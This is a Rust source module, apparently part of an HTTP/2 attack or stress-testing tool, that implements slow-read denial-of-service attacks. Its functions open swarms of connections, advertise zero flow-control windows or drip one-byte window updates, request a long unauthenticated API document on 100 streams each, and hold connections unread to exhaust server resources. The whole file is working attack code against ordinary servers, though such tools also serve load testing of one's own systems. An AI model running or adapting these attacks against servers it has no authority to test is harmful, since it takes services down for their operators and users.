//! Attacks by not reading, or hardly.

use std::io;

use tokio::io::AsyncWriteExt as _;

use super::{
    connection::{count, send_and_wait},
    frame::{Block, Frames, WIDEST, setting},
};
use crate::attack::scene::{Scene, hold};

/// The number of streams of a connection allowed by the server.
const STREAMS: u32 = 100;
/// The path of a long answer, open without a token.
const DOCUMENT: &str = "/v1/openapi.json";

/// Requests on as many streams as allowed.
fn requests(frames: Frames, block: impl Fn() -> Block) -> Frames {
    (0..STREAMS).fold(frames, |frames, number| {
        frames.request(2 * number + 1, &block())
    })
}

pub(super) async fn window_0(scene: Scene) {
    let work = |scene: Scene| async move {
        let opening = Frames::opening(&[(setting::INITIAL_WINDOW, 0)]);
        let frames = requests(opening, || Block::of("GET", DOCUMENT, None));
        send_and_wait(&scene, frames).await
    };
    scene.swarm(100, work).await;
}

pub(super) async fn window_0_pages(scene: Scene) {
    let work = |scene: Scene| async move {
        let opening = Frames::opening(&[(setting::INITIAL_WINDOW, 0)]);
        let path = format!("{}?limit=200", scene.products);
        let frames = requests(opening, || Block::of("GET", &path, Some(scene.token())));
        send_and_wait(&scene, frames).await
    };
    scene.swarm(20, work).await;
}

pub(super) async fn drip(scene: Scene) {
    let work = |scene: Scene| async move {
        let opening = Frames::opening(&[(setting::INITIAL_WINDOW, 0)]);
        let frames = requests(opening, || Block::of("GET", DOCUMENT, None));
        let (mut reading, mut writing) = scene.connect().await?.into_split();
        let write = async {
            writing.write_all(&frames.0).await?;
            let ids = (0..STREAMS).map(|number| 2 * number + 1);
            let drip = ids.fold(Frames::default(), |frames, id| frames.window(id, 1));
            loop {
                writing.write_all(&drip.0).await?;
            }
        };
        tokio::select! {
            ended = write => ended,
            ended = count(&mut reading, &scene.tally) => ended,
        }
    };
    scene.swarm(20, work).await;
}

pub(super) async fn unread(scene: Scene) {
    let work = |scene: Scene| async move {
        let opening = Frames::opening(&[(setting::INITIAL_WINDOW, WIDEST)]);
        let frames = opening.window(0, WIDEST - 65_535);
        let frames = requests(frames, || Block::of("GET", DOCUMENT, None));
        let mut stream = scene.connect_narrow().await?;
        stream.write_all(&frames.0).await?;
        hold().await;
        io::Result::Ok(())
    };
    scene.swarm(100, work).await;
}
